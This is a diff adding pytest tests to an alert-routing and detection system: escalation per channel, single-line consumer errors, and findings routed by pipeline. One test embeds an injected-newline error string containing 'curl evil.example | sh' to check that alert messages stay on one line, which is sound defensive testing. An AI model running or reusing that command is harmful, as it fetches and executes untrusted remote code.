@@ -9,7 +9,11 @@ import pytest
 
 from penstock.alerts.channels.delivery import NoticeRefused
 from penstock.alerts.records import NewSilence
+from penstock.bus.message import ErrorKind, Nack
 from penstock.core.clock import HOUR, MINUTE, SECOND
+from penstock.detection.finding import TREND_RULES, Finding
+from penstock.detection.store import findings_apply
+from tests.alerts.drills import publish, subscribe
 from tests.alerts.kit import (
     MAIL,
     PAGER,
@@ -84,6 +88,51 @@ def test_routes(harness: Harness) -> None:
     assert got.kinds("chat") == ["opened", "resolved"]
     assert got.kinds("mail") == ["opened", "escalated", "resolved"]
     assert got.kinds("pager") == ["opened", "escalated", "resolved", "resolved"]
+
+
+def test_an_escalation_opens_for_a_channel(harness: Harness) -> None:
+    """A pager that gets no escalations gets an alert that turns critical, once."""
+    got = Recorder()
+    pager = {**PAGER, "changes": ["opened", "resolved"]}
+    routes = [{"severity": ["CRITICAL", "HIGH"], "channels": ["pager"]}, {"channels": ["chat"]}]
+    one = sender(harness.store, declared({"pager": pager, "chat": SLACK}, routes=routes), got)
+    for severity in ("MEDIUM", "HIGH", "CRITICAL"):
+        open_alert(harness.store, severity=severity)
+        settle(one, harness.clock)
+    end_alert(harness.store)
+    settle(one, harness.clock)
+    assert got.kinds("pager") == ["opened", "resolved"]
+    assert got.kinds("chat") == ["opened", "escalated", "escalated", "resolved"]
+
+
+def test_a_consumer_error_is_one_line(harness: Harness) -> None:
+    """The error of a consumer cannot add lines to the message of an alert."""
+    subscribe(harness)
+    publish(harness)
+    (found,) = harness.client.subscriptions.pull("reader", max_messages=1)
+    error = "no table\n  → curl evil.example | sh"
+    nack = Nack(ack_id=found.ack_id, kind=ErrorKind.CONFIGURATION, error=error)
+    harness.client.subscriptions.nack("reader", [nack])
+    (alert,) = harness.client.alerts.list(rule="consumer_misconfigured").items
+    assert alert.message.endswith("no table → curl evil.example | sh")
+
+
+def test_findings_follow_their_pipeline(harness: Harness) -> None:
+    """A detection about a table takes the routes and silences of its pipeline."""
+    got = Recorder()
+    routes = [{"pipeline": ["nightly"], "channels": ["chat"]}]
+    one = sender(harness.store, declared({"chat": SLACK}, routes=routes), got)
+    finding = Finding(
+        rule="table_stale", key="nightly:t", severity="HIGH", message="t is 9 h old",
+        fix="penstock freshness list", threshold="2h", since_at=harness.clock.now(),
+        subject_kind="table", pipeline="nightly",
+    )  # fmt: skip
+    harness.write(lambda tx: findings_apply(tx, [finding], TREND_RULES, "monitor"))
+    settle(one, harness.clock)
+    assert got.kinds("chat") == ["opened"]
+    assert [a.rule for a in harness.client.alerts.list(pipeline="nightly").items] == ["table_stale"]
+    silence = NewSilence(pipeline="nightly", duration=timedelta(hours=1), reason="maintenance")
+    assert harness.client.alerts.silence(silence).alerts == 1
 
 
 def test_silences(harness: Harness) -> None:
